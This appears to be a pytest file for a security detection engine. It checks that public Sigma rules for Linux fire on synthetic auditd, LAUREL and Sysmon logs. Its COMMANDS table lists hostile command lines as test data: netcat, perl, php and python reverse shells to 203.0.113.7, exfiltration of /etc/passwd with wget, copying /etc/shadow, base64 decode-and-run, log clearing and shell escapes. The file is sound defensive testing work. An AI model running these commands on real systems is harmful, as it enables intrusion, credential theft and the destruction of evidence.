"""Public rules for Linux fire on the audit log of a host on which it happened, on LAUREL's and on Sysmon's."""

import json
import shlex
import tarfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from xml.sax.saxutils import escape
from zoneinfo import ZoneInfo

import pytest

from collectors.archive import read_blocks
from soc_agent.decode import Context, guess_type
from soc_agent.detect import Engine, RuleSet, load_rules
from tests import product

pytestmark = pytest.mark.data
BEGIN = 1_795_144_443
PYTHON = "/usr/bin/python3.11"
# the file of a public rule, and a command on which it fires; the program's path before it where another is run
COMMANDS = r"""
apt_shell_execution: apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
at_command: at now
auditctl_clear_rules: /usr/sbin/auditctl -D
awk_shell_spawn: mawk 'BEGIN {system("/bin/sh")}'
base64_decode: base64 -d /tmp/x
base64_execution: sh -c 'echo aWQK | base64 -d | sh'
bash_interactive_shell: bash -i -c id
bpftrace_unsafe_option_usage: bpftrace --unsafe -e x
cap_setgid: /usr/sbin/setcap cap_setgid+ep /tmp/x
cap_setuid: /usr/sbin/setcap cap_setuid+ep /tmp/x
capa_discovery: /usr/sbin/getcap -r /
capsh_shell_invocation: /usr/sbin/capsh --gid=0 --uid=0 --
chattr_immutable_removal: chattr -i /etc/passwd
chmod_targeting_sensitive_directories: chmod 777 /tmp/x
chroot_execution: sudo --chroot /tmp/x id
clear_logs: rm -f /var/log/btmp
clear_syslog: rm -f /var/log/syslog
clipboard_collection: xclip -sel clip -o
cp_passwd_or_shadow_tmp: cp /etc/shadow /tmp/s
crontab_enumeration: crontab -l
crontab_removal: crontab -r
crypto_mining: /opt/x/k -o stratum+tcp://203.0.113.7:3333
curl_usage: curl -s https://example.vn
curl_wget_exec_tmp: sh -c '/usr/bin/curl -s http://203.0.113.7/a -o /tmp/a'
dd_file_overwrite: dd if=/dev/zero of=/tmp/x
dd_process_injection: dd if=/tmp/x of=/proc/7/mem
doas_execution: doas id
env_shell_invocation: env /bin/sh
esxcli_vm_kill: /bin/esxcli vm process kill --type=force --world-id=7
find_shell_execution: find . -exec /bin/sh {} +
groupdel: /usr/sbin/groupdel x
install_suspicious_packages: apt-get install nmap
install_root_certificate: /usr/sbin/update-ca-certificates
local_account: cat /etc/passwd
local_groups: cat /etc/group
mkfifo_named_pipe_creation: mkfifo /tmp/f
mkfifo_named_pipe_creation_susp_location: mkfifo /tmp/f
mount_hidepid: mount -o remount,hidepid=2 /proc
netcat_reverse_shell: nc -e sh 203.0.113.7 4444
nice_shell_execution: nice /bin/sh
nohup: nohup /opt/x
nohup_susp_execution: nohup /tmp/x
perl_reverse_shell: perl -e 'use Socket;socket(S);connect(S);open(STDIN);exec("sh");'
php_reverse_shell: /usr/bin/php8.2 -r '$s=fsockopen("203.0.113.7",443);exec("sh -i");'
proxy_connection: bash -c 'export http_proxy=http://203.0.113.7:3128'
python_base64_encoded_execution: {python} -c 'import base64;exec(base64.b64decode("aQ=="))'
python_http_server_execution: {python} -m http.server 8000
python_pty_spawn: {python} -c 'import pty;pty.spawn("/bin/sh")'
python_reverse_shell: {python} -c 'import socket,pty;s=socket.socket();s.connect(("203.0.113.7",1));pty.spawn("sh")'
python_shell_os_system: {python} -c 'import os;os.system("/bin/sh")'
remove_package: apt-get remove clamav
rsync_shell_execution: rsync -e '/bin/sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
schedule_task_job_cron: crontab /tmp/x
security_software_discovery: grep falcond /tmp/x
services_stop_and_disable: systemctl stop nginx
ssh_shell_execution: ssh -o 'ProxyCommand=;/bin/sh 0<&2 1>&2' x
susp_curl_fileupload: curl --upload-file /tmp/x http://203.0.113.7/
susp_curl_useragent: curl -A x http://203.0.113.7/
susp_dockerenv_recon: ls /.dockerenv
susp_exec_from_dev_shm: /dev/shm/k
susp_execution_tmp_folder: /tmp/k
susp_find_execution: find / -perm -4000
susp_git_clone: git clone https://git.example.vn/CVE-2021-4034
susp_history_delete: rm /root/.bash_history
susp_history_recon: cat /root/.bash_history
susp_hktl_execution: /opt/x/msfconsole
susp_pipe_shell: sh -c 'cat /tmp/x | sh'
susp_process_reading_sudoers: cat /etc/sudoers
susp_recon_indicators: find / -name .htpasswd
susp_shell_script_exec_from_susp_location: sh -c /tmp/x
system_info_discovery: uname -a
system_network_connections_discovery: netstat -an
system_network_discovery: ip a
touch_susp: touch -t 202001010000 /etc/systemd/system/x.service
userdel: /usr/sbin/userdel x
usermod_susp_group: /usr/sbin/usermod -aG root x
vim_shell_execution: vim -c ':!/bin/sh'
wget_download_suspicious_directory: wget -O /tmp/x http://203.0.113.7/x
lnx_auditd_capabilities_discovery: getcap -r /
lnx_auditd_chattr_immutable_removal: chattr -i /etc/passwd
lnx_auditd_change_file_time_attr: touch -r /bin/ls /tmp/x
lnx_auditd_clipboard_collection: xclip -selection clipboard -o
lnx_auditd_coinminer: /opt/x/k --cpu-priority 5
lnx_auditd_data_compressed: zip /tmp/a.zip /srv
lnx_auditd_data_exfil_wget: wget --post-file=/etc/passwd http://203.0.113.7/
lnx_auditd_dd_delete_file: dd if=/dev/null of=/srv/x
lnx_auditd_find_cred_in_files: grep -ri password /srv
lnx_auditd_hidden_files_directories: mkdir /tmp/.x
lnx_auditd_modify_system_firewall: ufw delete 1
lnx_auditd_susp_cmds: chmod u+s /tmp/x
lnx_auditd_susp_histfile_operations: cat /root/.bash_history
lnx_auditd_susp_service_reload_or_restart: systemctl reload nginx
lnx_auditd_system_shutdown_reboot: /usr/sbin/shutdown -r now
lnx_auditd_user_discovery: whoami
lnx_auditd_hidden_binary_execution: /tmp/.x/k
lnx_auditd_web_rce: id
lnx_auditd_susp_exe_folders: /tmp/k
lnx_auditd_split_file_into_pieces: split -b 1M /tmp/x
lnx_auditd_password_policy_discovery: chage --list root
lnx_auditd_audio_capture: arecord -vv -fdat x.wav
lnx_auditd_disable_aslr_protection: sysctl -w kernel.randomize_va_space=0
lnx_auditd_create_account: /usr/sbin/useradd x
"""
FILES = {
    "file_event_lnx_persistence_sudoers_files": ("/usr/bin/bash", "/etc/sudoers.d/x"),
    "file_event_lnx_susp_cron_file_created": ("/usr/bin/bash", "/etc/cron.d/x"),
    "file_event_lnx_susp_shell_script_under_profile_directory": ("/usr/bin/bash", "/etc/profile.d/x.sh"),
    "file_event_lnx_wget_download_file_in_tmp_dir": ("/usr/bin/wget", "/tmp/x"),
    "file_event_lnx_doas_conf_creation": ("/usr/bin/bash", "/etc/doas.conf"),
    "lnx_auditd_ld_so_preload_mod": ("/usr/bin/bash", "/etc/ld.so.preload"),
    "lnx_auditd_systemd_service_creation": ("/usr/bin/bash", "/etc/systemd/system/x.service"),
    "lnx_auditd_auditing_config_change": ("/usr/bin/sed", "/etc/audit/auditd.conf"),
    "lnx_auditd_unix_shell_configuration_modification": ("/usr/bin/bash", "/etc/profile"),
    "lnx_auditd_logging_config_change": ("/usr/bin/sed", "/etc/rsyslog.conf"),
}
CALLS = {
    "lnx_auditd_clean_disable_dmesg_logs_via_syslog": "syscall=103 success=yes a0=5",
    "lnx_auditd_susp_discovery_sysinfo_syscall": "syscall=99 success=yes a0=7ffd",
    "lnx_auditd_susp_special_file_creation_via_mknod_syscall": "syscall=133 success=yes a0=7ffd",
}
PARENTS = {
    "webshell_detection": ("/usr/sbin/apache2", "whoami"),
    "susp_java_children": ("/usr/bin/java", "bash -c id"),
    "susp_shell_child_process_from_parent_tmp_folder": ("/tmp/x", "sh -c id"),
    "rsync_shell_spawn": ("/usr/bin/rsync", "bash -p"),
}


def commands() -> Iterator[tuple[str, str, list[str]]]:
    """Yield the file of a rule, the program's path, and the arguments."""
    for row in COMMANDS.strip().replace("{python}", PYTHON).splitlines():
        rule, _, line = row.partition(": ")
        arguments = shlex.split(line)
        path = arguments[0] if arguments[0].startswith("/") else f"/usr/bin/{arguments[0]}"
        arguments[0] = arguments[0] if rule.startswith("lnx_auditd") else Path(arguments[0]).name
        yield rule if rule.startswith("lnx_") else f"proc_creation_lnx_{rule}", path, arguments


def written(text: str) -> str:
    """Write a text as the kernel does."""
    if all(0x20 < ord(letter) < 0x7F and letter != '"' for letter in text):
        return f'"{text}"'
    return text.encode().hex().upper()


def call(serial: int, program: str, what: str) -> str:
    ids = "auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=pts0 ses=3"
    head = f"type=SYSCALL msg=audit({BEGIN}.101:{serial}): arch=c000003e {what} exit=0 items=2 ppid=7 pid=8 {ids}"
    return f'{head} comm="{Path(program).name}" exe="{program}" subj=unconfined key="x"\n'


def audit_log() -> bytes:
    """Give an audit log in which the records of each two events alternate."""
    events: list[list[str]] = []
    for _, path, arguments in commands():
        stamp = f"msg=audit({BEGIN}.101:{len(events)}):"
        given = " ".join(f"a{place}={written(argument)}" for place, argument in enumerate(arguments))
        title = "\0".join(arguments).encode().hex().upper()
        events.append(
            [
                call(len(events), path, "syscall=59 success=yes a0=1 a1=2 a2=3 a3=4"),
                f"type=EXECVE {stamp} argc={len(arguments)} {given}\n",
                f'type=CWD {stamp} cwd="/srv"\n',
                f"type=PATH {stamp} item=0 name={written(path)} inode=7 mode=0100755 nametype=NORMAL\n",
                f"type=PROCTITLE {stamp} proctitle={title}\n",
            ]
        )
    for program, path in FILES.values():
        stamp = f"msg=audit({BEGIN}.101:{len(events)}):"
        events.append(
            [
                call(len(events), program, "syscall=257 success=yes a0=ffffff9c a1=7ffd a2=241 a3=1b6"),
                f'type=CWD {stamp} cwd="/srv"\n',
                f"type=PATH {stamp} item=1 name={written(path)} inode=7 mode=0100644 nametype=CREATE\n",
                f'type=PROCTITLE {stamp} proctitle="x"\n',
            ]
        )
    for what in CALLS.values():
        stamp = f"msg=audit({BEGIN}.101:{len(events)}):"
        events.append([call(len(events), "/usr/bin/x", what), f'type=PROCTITLE {stamp} proctitle="x"\n'])
    stamp = f"msg=audit({BEGIN}.101:{len(events)}):"
    peer = f"type=SOCKADDR {stamp} saddr=0200115CCB0071070000000000000000\n"
    shell = call(len(events), "/usr/bin/bash", "syscall=42 success=yes a0=3 a1=7ffd a2=10 a3=0")
    events.append([shell, peer, f'type=PROCTITLE {stamp} proctitle="x"\n'])
    lines: list[str] = []
    for one, other in zip(events[::2], [*events[1::2], []], strict=False):
        for place in range(max(len(one), len(other))):
            lines += [*one[place : place + 1], *other[place : place + 1]]
    return "".join(lines).encode()


def laurel_line(parent: str, line: str) -> str:
    arguments = shlex.split(line)
    path = f"/usr/bin/{arguments[0]}"
    syscall = {
        "arch": "0xc000003e",
        "syscall": 59,
        "success": "yes",
        "ppid": 7,
        "pid": 8,
        "exe": path,
        "SYSCALL": "execve",
    }
    tree = {
        "ID": f"{BEGIN}.101:7",
        "SYSCALL": syscall,
        "EXECVE": {"argc": len(arguments), "ARGV": arguments},
        "PARENT_INFO": {"exe": parent, "ARGV": [parent]},
    }
    return json.dumps(tree)


def sysmon_line(parent: str, line: str) -> str:
    fields = {"Image": f"/usr/bin/{line.partition(' ')[0]}", "CommandLine": line, "ParentImage": parent, "User": "root"}
    data = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in fields.items())
    system = '<Provider Name="Linux-Sysmon"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel>'
    return f"Nov 20 10:14:03 app03 sysmon: <Event><System>{system}</System><EventData>{data}</EventData></Event>"


@pytest.fixture(scope="module")
def public(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    archive = Path(__file__).resolve().parents[3] / "shared" / "data" / "sigmahq-rules.tar.gz"
    if not archive.is_file():
        pytest.skip("the public rule set is not beside the project")
    folder = tmp_path_factory.mktemp("public")
    with tarfile.open(archive) as tar:
        members = [member for member in tar.getmembers() if "/linux/" in member.name]
        tar.extractall(folder, members=members, filter="data")
    return load_rules([folder], cache_dir=tmp_path_factory.mktemp("cache"))


def fired(rules: RuleSet, path: Path, *, prefilter: bool = True) -> set[str]:
    """Give the files of the rules that fire on a log, by their stems."""
    engine = Engine(rules, product.decoders(), prefilter=prefilter)
    paths = {rule.info.id: Path(rule.info.path).stem for rule in rules.rules}
    found: set[str] = set()
    for block in read_blocks(path, "auto"):
        context = Context("audit", guess_type(block.data), ZoneInfo("UTC"), block.received_ns)
        found |= {paths[detection.rule.id] for detection in engine.run(block, context).detections}
    return found


def test_they_fire_on_an_audit_log_of_which_the_records_alternate(public: RuleSet, tmp_path: Path) -> None:
    (tmp_path / "audit.log").write_bytes(audit_log())
    found = fired(public, tmp_path / "audit.log")
    wanted = {rule for rule, _, _ in commands()} | FILES.keys() | CALLS.keys()
    wanted |= {"net_connection_lnx_back_connect_shell_dev", "net_connection_lnx_susp_malware_callback_port"}
    assert wanted - found == set()
    assert len(wanted) > 110
    assert found == fired(public, tmp_path / "audit.log", prefilter=False)


@pytest.mark.parametrize("write", [laurel_line, sysmon_line], ids=["laurel", "sysmon"])
def test_they_know_the_parent_where_the_source_does(public: RuleSet, tmp_path: Path, write: object) -> None:
    assert callable(write)
    lines: Sequence[str] = [write(parent, line) for parent, line in PARENTS.values()]
    (tmp_path / "x.log").write_text("\n".join(lines) + "\n")
    assert {f"proc_creation_lnx_{rule}" for rule in PARENTS} - fired(public, tmp_path / "x.log") == set()
